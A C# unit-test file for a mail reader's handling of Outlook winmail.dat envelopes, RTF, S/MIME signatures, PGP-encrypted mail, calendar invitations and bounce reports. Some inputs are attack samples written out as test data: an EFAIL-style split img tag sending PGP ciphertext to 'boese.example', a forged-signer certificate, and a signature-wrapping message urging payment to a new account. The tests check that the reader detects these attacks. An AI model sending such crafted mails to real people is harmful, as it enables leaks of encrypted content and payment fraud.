using System.Diagnostics;
using System.Security.Cryptography;
using System.Security.Cryptography.Pkcs;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Text.Json;
using CsCheck;
using MimeKit;
using MimeKit.Cryptography;
using Tresen.Conversations;
using Tresen.Mail.Reading;
using Tresen.Platform.Time;

namespace Tresen.Tests.Mail.Reading;

/// <summary>Mails that hold more than text: envelopes of Outlook, signatures, appointments, reports, other mails.</summary>
public sealed class FindingsTests
{
    const string Head = "From: Karin <karin@muellerbau.example>\r\nSubject: Tor\r\nMessage-ID: <1@muellerbau.example>\r\nDate: Tue, 24 Nov 2026 09:12:00 +0100\r\nMIME-Version: 1.0\r\n";

    [Fact]
    public void What_outlook_packs_into_winmail_dat_is_taken_out()
    {
        var envelope = Convert.ToBase64String(Envelope(("Plan.txt", Encoding.ASCII.GetBytes("Tor 3"))));

        var beside = Read(Head + $"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSiehe Anlage.\r\n--b\r\nContent-Type: application/octet-stream; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n{envelope}\r\n--b--\r\n");
        beside.Text.ShouldBe("Siehe Anlage.");
        beside.Attachments.Select(a => (a.Name, Encoding.ASCII.GetString(a.Open().ToArray()))).ShouldBe([("Plan.txt", "Tor 3")]);

        var alone = Read(Head + $"Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n{envelope}\r\n");
        alone.Text.ShouldBe("Text im Umschlag");
        alone.Attachments.ShouldHaveSingleItem().Name.ShouldBe("Plan.txt");
    }

    [Fact]
    public void An_envelope_whose_text_is_rich_alone_says_it()
    {
        var rtf = Encoding.ASCII.GetBytes("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}{\\*\\generator Riched;}\\uc1\\pard Gr\\u252?\\'dfe,\\par das \\b Tor\\b0  klemmt.{\\pict 0102}\\par}");
        var mail = Read(Head + $"Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(Rich(rtf))}\r\n");
        mail.Text.ShouldBe("Grüße,\ndas Tor klemmt.");
        mail.Attachments.ShouldBeEmpty();
    }

    [Fact]
    public void B16_whatever_rich_text_holds_is_read_in_time() =>
        Gen.String[Gen.OneOf(Gen.Char, Gen.Char["{}\\'*u-0123456789par "]), 0, 200].Sample(noise =>
            Read(Head + $"Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(Rich(Encoding.UTF8.GetBytes("{\\rtf1 " + noise)))}\r\n").Text.Length < 1000, iter: 500);

    [Fact]
    public void B16_a_bent_envelope_stays_a_file_and_ends_in_time()
    {
        var whole = Envelope(("Plan.txt", new byte[300]));
        Gen.Select(Gen.Int[6, whole.Length - 1], Gen.Byte, Gen.Int[10, whole.Length]).Sample((at, value, length) =>
        {
            var bent = whole[..length];
            bent[Math.Min(at, length - 1)] = value;
            var watch = Stopwatch.StartNew();
            var mail = Read(Head + $"Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(bent)}\r\n");
            return mail.Limit is null && watch.Elapsed < TimeSpan.FromSeconds(5);
        }, iter: 500);
    }

    [Fact]
    public void B15_envelopes_within_envelopes_are_opened_only_so_deep()
    {
        var envelope = Envelope(("Innen.txt", [1]));
        for (var i = 0; i < 40; i++)
        {
            envelope = Envelope(("winmail.dat", envelope));
        }

        var mail = Read(Head + $"Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(envelope)}\r\n");
        mail.Limit.ShouldBeNull();
        mail.Attachments.ShouldHaveSingleItem().Name.ShouldBe("winmail.dat");
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task B22_a_signature_is_valid_only_where_this_system_trusts_who_vouches_for_it(bool isOpaque)
    {
        using var root = Root();
        using var karin = Certificate("karin@muellerbau.example", root);
        var mail = Signed(karin, isOpaque);

        Read(mail).Findings.ShouldHaveSingleItem().Kind.ShouldBe(FindingKind.SignatureUnchecked);
        var trusted = await Explained(mail, root);
        trusted.GetProperty("findings")[0].GetProperty("kind").GetString().ShouldBe("signatureValid");
        trusted.GetProperty("findings")[0].GetProperty("who").GetString().ShouldBe("karin@muellerbau.example");
        trusted.GetProperty("text").GetString().ShouldBe("Das Tor klemmt.");
    }

    [Fact]
    public async Task B22_whoever_signs_in_anothers_name_is_named()
    {
        using var root = Root();
        using var eve = Certificate("eve@boese.example", root);
        var finding = (await Explained(Signed(eve, isOpaque: true), root)).GetProperty("findings")[0];
        finding.GetProperty("kind").GetString().ShouldBe("signatureOfAnother");
        finding.GetProperty("who").GetString().ShouldBe("eve@boese.example");
    }

    [Fact]
    public async Task B22_a_text_changed_after_signing_is_said_and_a_signed_part_vouches_for_no_other()
    {
        using var root = Root();
        using var karin = Certificate("karin@muellerbau.example", root);
        var signed = Signed(karin, isOpaque: false);

        var changed = Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(signed).Replace("Das Tor klemmt.", "Das Tor brennt.", StringComparison.Ordinal));
        (await Explained(changed, root)).GetProperty("findings")[0].GetProperty("kind").GetString().ShouldBe("signatureBroken");

        var inner = Encoding.UTF8.GetString(signed);
        inner = inner[inner.IndexOf("Content-Type: multipart/signed", StringComparison.Ordinal)..];
        var around = Head + "Content-Type: multipart/mixed; boundary=aussen\r\n\r\n--aussen\r\nContent-Type: text/plain\r\n\r\nBitte an das neue Konto zahlen.\r\n--aussen\r\n" + inner + "\r\n--aussen--\r\n";
        (await Explained(Encoding.UTF8.GetBytes(around), root)).GetProperty("findings")[0].GetProperty("kind").GetString().ShouldBe("signatureUnchecked");
    }

    [Theory]
    [InlineData("multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b", "\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nx\r\n-----END PGP MESSAGE-----\r\n--b--")]
    [InlineData("text/plain", "\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----")]
    [InlineData("multipart/mixed; boundary=b", "\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"https://boese.example/?\r\n--b\r\nContent-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--")]
    public void B22_what_is_encrypted_stays_shut_and_is_said(string type, string body)
    {
        var mail = Read(Head + $"Content-Type: {type}\r\n{body}\r\n");
        mail.Findings.ShouldHaveSingleItem().Kind.ShouldBe(FindingKind.Encrypted);
        mail.Html.ShouldNotContain("src=\"https");
    }

    [Fact]
    public void B22_an_enveloped_mail_is_said_whatever_it_calls_itself()
    {
        using var root = Root();
        using var karin = Certificate("karin@muellerbau.example", root);
        var cms = new EnvelopedCms(new ContentInfo(Encoding.UTF8.GetBytes("Content-Type: text/html\r\n\r\nGeheim")));
        cms.Encrypt(new System.Security.Cryptography.Pkcs.CmsRecipient(karin));
        var mail = Read(Head + $"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{Convert.ToBase64String(cms.Encode())}\r\n");
        mail.Findings.ShouldHaveSingleItem().Kind.ShouldBe(FindingKind.Encrypted);
        mail.Text.ShouldBe("");
    }

    [Fact]
    public void An_invitation_says_what_when_and_where()
    {
        var mail = Read(Head + "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nBitte kommen.\r\n--b\r\nContent-Type: text/calendar; charset=utf-8; method=REQUEST\r\n\r\n"
            + "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VTIMEZONE\r\nTZID:W. Europe Standard Time\r\nBEGIN:STANDARD\r\nDTSTART:16011028T030000\r\nEND:STANDARD\r\nEND:VTIMEZONE\r\nBEGIN:VEVENT\r\nORGANIZER;CN=\"Müller: Karin\":mailto:karin@muellerbau.example\r\nDTSTART;TZID=W. Europe Standard Time:20261126T093000\r\nDURATION:PT1H30M\r\nSUMMARY:Abnahme Tor\\, Halle\r\n  2\r\nLOCATION:Nordkai 1\r\nDESCRIPTION:Erste Zeile\\nZweite\r\nRRULE:FREQ=WEEKLY\r\nBEGIN:VALARM\r\nDESCRIPTION:Wecker\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n--b--\r\n");
        mail.Text.ShouldBe("Bitte kommen.");
        mail.Findings.ShouldHaveSingleItem().ShouldBe(new Finding(FindingKind.Invitation)
        {
            Who = "Müller: Karin <karin@muellerbau.example>",
            Title = "Abnahme Tor, Halle 2",
            Text = "Erste Zeile\nZweite",
            Place = "Nordkai 1",
            From = new DateTimeOffset(2026, 11, 26, 9, 30, 0, TimeSpan.FromHours(1)),
            Until = new DateTimeOffset(2026, 11, 26, 11, 0, 0, TimeSpan.FromHours(1)),
            IsRepeated = true,
        });
    }

    [Theory]
    [InlineData("METHOD:CANCEL", "DTSTART;VALUE=DATE:20261126", FindingKind.Cancellation, true)]
    [InlineData("METHOD:PUBLISH", "DTSTART:20261126T083000Z", FindingKind.Invitation, false)]
    [InlineData("METHOD:REPLY", "DTSTART:20261126T083000Z\nATTENDEE;PARTSTAT=ACCEPTED:mailto:jens@ohlsen.example", FindingKind.InvitationAnswer, false)]
    [InlineData("", "DTSTART;TZID=Mars/Olympus:20261126T093000\nDTEND:unsinn", FindingKind.Invitation, false)]
    public void Appointments_of_all_kinds_are_told_apart(string method, string fields, FindingKind kind, bool isAllDay)
    {
        var found = Read(Head + $"Content-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR\n{method}\nBEGIN:VEVENT\nSUMMARY:Tor\n{fields}\nEND:VEVENT\nEND:VCALENDAR\n").Findings.ShouldHaveSingleItem();
        (found.Kind, found.IsAllDay, Zone.DayOf(found.From!.Value)).ShouldBe((kind, isAllDay, new DateOnly(2026, 11, 26)));
    }

    [Fact]
    public void B05_B23_whatever_a_calendar_holds_is_text_and_ends_in_time() =>
        Gen.String[Gen.OneOf(Gen.Char, Gen.Char[":;\n\"\\\r "]), 0, 200].Sample(noise =>
            Read(Head + "Content-Type: text/calendar; charset=utf-8\r\n\r\nBEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:" + noise + "\nDTSTART:" + noise + "\nEND:VEVENT\nEND:VCALENDAR\n").Limit is null, iter: 1000);

    [Fact]
    public void A_delivery_report_is_told_recipient_by_recipient()
    {
        var mail = Read("From: MAILER-DAEMON@eins.example\r\nSubject: Unzustellbar\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nIhre Nachricht kam nicht an.\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\n"
            + "Reporting-MTA: dns; eins.example\r\n\r\nFinal-Recipient: rfc822; wer@eins.example\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 Unbekannt\r\n\r\nFinal-Recipient: rfc822; spaet@eins.example\r\nAction: delayed\r\nStatus: 4.4.1\r\n\r\n"
            + "--b\r\nContent-Type: message/rfc822\r\n\r\nFrom: Service <service@hafen.example>\r\nSubject: AW: Tor\r\nDate: Mon, 23 Nov 2026 10:00:00 +0100\r\n\r\nWir kommen morgen.\r\n--b--\r\n");
        mail.Findings.Select(f => (f.Kind, f.Who, f.Title)).ShouldBe(
        [
            (FindingKind.NotDelivered, "wer@eins.example", "550 5.1.1 Unbekannt"),
            (FindingKind.Delayed, "spaet@eins.example", "4.4.1"),
            (FindingKind.Enclosed, "Service <service@hafen.example>", "AW: Tor"),
        ]);
        mail.Findings[2].Text.ShouldBe("Wir kommen morgen.");
    }

    [Fact]
    public void B15_mails_within_mails_are_opened_once()
    {
        var inner = "From: z@eins.example\r\nSubject: Ganz innen\r\n\r\nInnen";
        for (var i = 0; i < 25; i++)
        {
            inner = $"From: a{i}@eins.example\r\nSubject: Stufe {i}\r\nContent-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\nContent-Type: text/plain\r\n\r\nText {i}\r\n--b{i}\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n--b{i}--\r\n";
        }

        var enclosed = Read(inner).Findings.ShouldHaveSingleItem();
        (enclosed.Title, enclosed.Text).ShouldBe(("Stufe 23", "Text 23\n\n[Stufe 22.eml]"));
    }

    /// <summary>As Outlook writes it: a text and files.</summary>
    internal static byte[] Envelope(params (string Name, byte[] Content)[] files)
    {
        using var bytes = new MemoryStream();
        using var writer = new BinaryWriter(bytes);
        writer.Write(0x223E9F78u);
        writer.Write((ushort)1);
        Attribute(1, 0x00089006, [0, 0, 1, 0]);
        Attribute(1, 0x00069007, [.. BitConverter.GetBytes(1252), 0, 0, 0, 0]);
        Attribute(1, 0x0002800C, Encoding.ASCII.GetBytes("Text im Umschlag\0"));
        foreach (var (name, content) in files)
        {
            Attribute(2, 0x00069002, [1, 0, .. new byte[12]]);
            Attribute(2, 0x0006800F, content);
            Attribute(2, 0x00018010, Encoding.ASCII.GetBytes(name + "\0"));
        }

        return bytes.ToArray();

        void Attribute(byte level, uint tag, byte[] data)
        {
            writer.Write(level);
            writer.Write(tag);
            writer.Write(data.Length);
            writer.Write(data);
            writer.Write((ushort)data.Sum(d => d));
        }
    }

    /// <summary>An envelope that holds nothing but rich text, not compressed.</summary>
    static byte[] Rich(byte[] rtf)
    {
        using var properties = new MemoryStream();
        using var property = new BinaryWriter(properties);
        property.Write(1);
        property.Write(0x10090102u);
        property.Write(1);
        property.Write(rtf.Length + 16);
        property.Write(rtf.Length + 12);
        property.Write(rtf.Length);
        property.Write(0x414C454Du);
        property.Write(0u);
        property.Write(rtf);
        property.Write(new byte[(4 - (rtf.Length % 4)) % 4]);
        var data = properties.ToArray();

        using var bytes = new MemoryStream();
        using var writer = new BinaryWriter(bytes);
        writer.Write(0x223E9F78u);
        writer.Write((ushort)1);
        writer.Write((byte)1);
        writer.Write(0x00069003u);
        writer.Write(data.Length);
        writer.Write(data);
        writer.Write((ushort)data.Sum(d => d));
        return bytes.ToArray();
    }

    static X509Certificate2 Root()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        var request = new CertificateRequest("CN=Prüfstelle", key, HashAlgorithmName.SHA256);
        request.CertificateExtensions.Add(new X509BasicConstraintsExtension(true, false, 0, true));
        return request.CreateSelfSigned(DateTimeOffset.UtcNow.AddYears(-1), DateTimeOffset.UtcNow.AddYears(5));
    }

    static X509Certificate2 Certificate(string address, X509Certificate2 root)
    {
        using var key = RSA.Create(2048);
        var request = new CertificateRequest("CN=" + address, key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        var names = new SubjectAlternativeNameBuilder();
        names.AddEmailAddress(address);
        request.CertificateExtensions.Add(names.Build());
        request.CertificateExtensions.Add(new X509EnhancedKeyUsageExtension([new Oid("1.3.6.1.5.5.7.3.4")], false));
        using var signed = request.Create(root.SubjectName, X509SignatureGenerator.CreateForECDsa(root.GetECDsaPrivateKey()!), DateTimeOffset.UtcNow.AddDays(-30), DateTimeOffset.UtcNow.AddYears(1), [1, 2, 3]);
        return signed.CopyWithPrivateKey(key);
    }

    static byte[] Signed(X509Certificate2 by, bool isOpaque)
    {
        var text = new TextPart("plain") { Text = "Das Tor klemmt.\r\n" };
        using var context = new TemporarySecureMimeContext();
        var signer = new MimeKit.Cryptography.CmsSigner(by) { DigestAlgorithm = DigestAlgorithm.Sha256 };
        var message = new MimeMessage { Subject = "Tor", Body = isOpaque ? ApplicationPkcs7Mime.Sign(context, signer, text) : MultipartSigned.Create(context, signer, text) };
        message.From.Add(new MailboxAddress("Karin", "karin@muellerbau.example"));
        using var bytes = new MemoryStream();
        message.WriteTo(bytes);
        return bytes.ToArray();
    }

    /// <summary>What <c>tresen mail explain</c> says on a system that trusts that root.</summary>
    static async Task<JsonElement> Explained(byte[] mail, X509Certificate2 root)
    {
        var folder = Directory.CreateTempSubdirectory("tresen-signed-").FullName;
        try
        {
            await File.WriteAllBytesAsync(Path.Combine(folder, "mail.eml"), mail, TestContext.Current.CancellationToken);
            await File.WriteAllTextAsync(Path.Combine(folder, "root.pem"), root.ExportCertificatePem(), TestContext.Current.CancellationToken);
            var start = new ProcessStartInfo(Environment.ProcessPath is { } host && Path.GetFileNameWithoutExtension(host) == "dotnet" ? host : "dotnet", [Path.Combine(AppContext.BaseDirectory, "tresen.dll"), "mail", "explain", Path.Combine(folder, "mail.eml")]) { RedirectStandardOutput = true };
            start.Environment["SSL_CERT_FILE"] = Path.Combine(folder, "root.pem");
            using var explaining = Process.Start(start)!;
            var said = await explaining.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
            return JsonSerializer.Deserialize<JsonElement>(said);
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    static ReadMail Read(string raw) => Read(Encoding.UTF8.GetBytes(raw));

    static ReadMail Read(byte[] raw) => MailReader.Read(new MemoryStream(raw));
}
